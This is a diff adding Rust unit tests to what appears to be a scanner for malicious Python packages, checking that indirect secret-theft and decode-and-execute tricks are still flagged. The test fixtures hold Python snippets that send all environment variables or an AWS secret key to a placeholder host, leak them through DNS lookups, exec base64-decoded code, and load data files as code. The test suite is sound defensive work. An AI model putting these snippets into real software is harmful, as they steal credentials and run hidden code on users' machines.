@@ -915,3 +915,214 @@ fn a_lone_carriage_return_ends_a_line_and_foreign_codings_are_flagged() {
         s.findings
     );
 }
+
+// RT13-06: indirections that reach the same modules and builtins.
+
+fn caps(s: &SourceScan) -> Vec<Capability> {
+    s.capabilities.iter().copied().collect()
+}
+
+#[test]
+fn m1_through_dunder_import_and_dotted_attribute() {
+    let s = scan(
+        r#"import base64
+s = " ".join(__import__("os").environ.values())
+__import__("urllib.request").request.urlopen("https://x.invalid/?q=" + base64.b64encode(s.encode()).decode())
+"#,
+    );
+    assert_eq!(
+        finding(&s, Rule::EnvExfiltration, 3).severity,
+        Severity::High
+    );
+    assert!(
+        s.capabilities.contains(&Capability::Network),
+        "{:?}",
+        caps(&s)
+    );
+}
+
+#[test]
+fn m1_through_namespace_lookups() {
+    for env in [
+        r#"sys.modules["os"].__dict__["environ"]"#,
+        r#"vars(os)["environ"]"#,
+        r#"os.__dict__["environ"]"#,
+        r#"sys.modules["os"].environ"#,
+    ] {
+        let src = format!(
+            "import os, sys, base64, requests\ns = \" \".join({env}.values())\nglobals()[\"requests\"].get(\"https://x.invalid/\" + base64.b64encode(s.encode()).decode())\n"
+        );
+        let s = scan(&src);
+        assert_eq!(
+            finding(&s, Rule::EnvExfiltration, 3).severity,
+            Severity::High,
+            "{env}"
+        );
+        assert!(
+            s.capabilities.contains(&Capability::EnvironmentRead),
+            "{env}: {:?}",
+            caps(&s)
+        );
+    }
+}
+
+#[test]
+fn m3_through_builtins_lookups() {
+    for exec in [
+        r#"sys.modules['builtins'].exec"#,
+        r#"__builtins__.__dict__['exec']"#,
+        r#"__builtins__['exec']"#,
+        r#"vars(builtins)['exec']"#,
+    ] {
+        let src =
+            format!("import sys, base64, builtins\n{exec}(base64.b64decode('cHJpbnQoMSk='))\n");
+        let s = scan(&src);
+        assert_eq!(
+            finding(&s, Rule::DecodeExec, 2).severity,
+            Severity::High,
+            "{exec}"
+        );
+        assert!(s.capabilities.contains(&Capability::DynamicCode), "{exec}");
+    }
+}
+
+#[test]
+fn m3_unpickling_decoded_data() {
+    for m in ["pickle", "dill", "marshal"] {
+        let s = scan(&format!(
+            "import base64, {m}\n{m}.loads(base64.b64decode('gASVAAAA'))\n"
+        ));
+        assert_eq!(
+            finding(&s, Rule::DecodeExec, 2).severity,
+            Severity::High,
+            "{m}"
+        );
+    }
+    // Unpickling a file the package wrote is not decode-to-code.
+    assert_quiet(&scan(
+        "import pickle\nwith open('c.pkl', 'rb') as f:\n    pickle.loads(f.read())\n",
+    ));
+}
+
+#[test]
+fn dns_lookup_of_environment_is_network() {
+    let s = scan(
+        r#"import os, socket
+for v in os.environ.values():
+    socket.gethostbyname(v.encode().hex() + ".x.invalid")
+"#,
+    );
+    assert!(
+        s.capabilities.contains(&Capability::Network),
+        "{:?}",
+        caps(&s)
+    );
+    assert_eq!(
+        finding(&s, Rule::EnvExfiltration, 3).severity,
+        Severity::High
+    );
+}
+
+#[test]
+fn m1_through_attributes_bound_on_the_class_and_self() {
+    let s = scan(
+        r#"import os, base64, requests
+class C:
+    env = os.environ
+    def __init__(self):
+        self.send = requests.post
+    def go(self):
+        data = base64.b64encode(str(dict(self.env)).encode())
+        self.send("https://x.invalid/", data=data)
+"#,
+    );
+    assert_eq!(
+        finding(&s, Rule::EnvExfiltration, 8).severity,
+        Severity::High
+    );
+}
+
+// RT13-03: loaders run files as code.
+
+#[test]
+fn loaders_are_dynamic_code_and_name_their_files() {
+    for (src, file) in [
+        (
+            "import os, runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'cfg.dat'))\n",
+            "cfg.dat",
+        ),
+        (
+            "import importlib.machinery\nimportlib.machinery.SourceFileLoader('m', 'pkg/data.txt').exec_module(None)\n",
+            "data.txt",
+        ),
+        (
+            "import importlib.util as u\np = __file__.replace('mod.py', 'x.bin')\nspec = u.spec_from_file_location('x', p)\nspec.loader.exec_module(u.module_from_spec(spec))\n",
+            "x.bin",
+        ),
+        (
+            "import zipimport\nzipimport.zipimporter('bundle.zip').load_module('m')\n",
+            "bundle.zip",
+        ),
+    ] {
+        let s = scan(src);
+        assert!(
+            s.capabilities.contains(&Capability::DynamicCode),
+            "{src}: {:?}",
+            caps(&s)
+        );
+        assert!(s.loaded_files.contains(file), "{src}: {:?}", s.loaded_files);
+    }
+}
+
+// RT13-02: data flows between functions.
+
+#[test]
+fn m1_across_functions_of_one_file() {
+    let s = scan(
+        r#"import os, base64, requests
+def collect():
+    return " ".join(os.environ.values())
+def enc(s):
+    return base64.b64encode(s.encode()).decode()
+def send(d):
+    requests.get("https://x.invalid/?q=" + d)
+class Ctx(dict):
+    def __init__(self):
+        send(enc(collect()))
+"#,
+    );
+    assert_eq!(
+        finding(&s, Rule::EnvExfiltration, 10).severity,
+        Severity::High
+    );
+}
+
+#[test]
+fn m1_through_a_chain_of_senders() {
+    let s = scan(
+        r#"import os, requests
+def post(d):
+    requests.post("https://x.invalid/", data=d)
+def send(d):
+    post(d)
+def main():
+    send(os.environ.get("AWS_SECRET_ACCESS_KEY"))
+"#,
+    );
+    assert_eq!(
+        finding(&s, Rule::EnvExfiltration, 7).severity,
+        Severity::Medium
+    );
+}
+
+#[test]
+fn proxy_from_environment_through_a_helper_is_not_m1() {
+    // B3: the environment configures the client, it is not what is sent.
+    assert_quiet(&scan(
+        r#"import os, requests
+def fetch(url, proxy):
+    return requests.get(url, proxies={"https": proxy})
+fetch("https://example.org/", os.environ.get("HTTPS_PROXY"))
+"#,
+    ));
+}
